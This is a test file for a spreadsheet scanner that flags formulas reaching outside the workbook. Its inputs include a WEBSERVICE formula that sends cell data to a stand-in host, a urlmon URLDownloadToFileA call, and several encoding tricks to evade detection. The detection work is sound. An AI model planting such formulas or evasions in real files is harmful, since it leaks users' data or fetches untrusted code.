import { expect, test } from 'vitest'
import { SheetPart } from './sheet-part.ts'

const sheet = (inside: string, head = '') =>
  Buffer.from(`${head}<worksheet><sheetData>${inside}</sheetData></worksheet>`)
const cell = (formula: string) => `<row><c r="A1"><f>${formula}</f><v>1</v></c></row>`

/** In pieces, since it comes so from the archive. */
function faultOf(bytes: Buffer, size = 7) {
  const reader = new SheetPart()
  for (let at = 0; at < bytes.length; at += size) {
    const fault = reader.write(bytes.subarray(at, at + size))
    if (fault) return fault
  }
  return reader.end()
}

test.each([
  ['that fetches', cell('WEBSERVICE(&quot;https://e.example/?x=&quot;&amp;A1)')],
  ['as programs write it', cell('_xlfn.WEBSERVICE(B2)')],
  ['that loads a picture', cell('IF(TRUE,_xlfn.IMAGE (A1),0)')],
  ['that hands over to another program', cell('RTD("prog.id",,"x")')],
  ['that calls a library', cell('call("urlmon","URLDownloadToFileA")')],
  ['with letters as numbers', cell('&#87;EBSERVICE(A1)')],
  ['as character data', cell('<![CDATA[WEBSERVICE(A1)]]>')],
  ['under another prefix', cell('WEBSERVICE(A1)').replaceAll(/<(\/?)f>/g, '<$1x:f>')],
  ['of a name', '<definedName name="a">WEBSERVICE(A1)</definedName>'],
  ['of a rule', '<dataValidation><formula1>WEBSERVICE(A1)</formula1></dataValidation>'],
])('a formula %s is seen', (_, inside) => expect(faultOf(sheet(inside))).toBe('files.refers-outside'))

test('a part with names of its own is not read', () => {
  expect(faultOf(sheet(cell('&w;(A1)'), '<!DOCTYPE x [<!ENTITY w "WEBSERVICE">]>'))).toBe('files.unreadable')
})

test.each([
  ['that reckons', cell('SUM(A1:A9)*ROUND(B2,2)')],
  ['that links', cell('HYPERLINK("https://www.example.org","Rules")')],
  ['that speaks of one in quotes', cell('CONCAT("Please call (212) 555 0100, or image (1)","")')],
  ['whose function only ends alike', cell('RECALL(A1)+my.IMAGE(A1)')],
  ['and words that are none', '<c t="inlineStr"><is><t>WEBSERVICE(x)</t></is></c>'],
])('a sheet with a formula %s is taken', (_, inside) => expect(faultOf(sheet(inside))).toBeUndefined())
